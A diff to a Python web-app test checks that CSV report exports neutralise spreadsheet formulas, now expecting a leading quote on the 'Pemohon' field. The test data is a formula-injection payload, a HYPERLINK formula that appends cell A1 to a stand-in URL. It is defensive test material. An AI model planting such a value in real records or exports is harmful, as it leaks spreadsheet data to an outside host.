@@ -76,9 +76,10 @@ def test_a_formula_in_a_name_is_not_exported_as_a_formula(client, demo_users, re
     Person.objects.filter(pk=registered.applicant_id).update(name='=HYPERLINK("http://x/?"&A1,"klik")')
     client.force_login(demo_users["lumajang-kabid"])
 
-    rows = list(csv.DictReader(io.StringIO(client.get("/laporan/ekspor/permohonan.csv").content.decode())))
+    content = client.get("/laporan/ekspor/permohonan.csv").content.decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(content)))
 
-    assert not rows[0]["pemohon"].startswith("=")
+    assert rows[0]["Pemohon"].startswith("'=")
 
 
 def test_error_pages_are_in_indonesian(client, demo_users, registered):
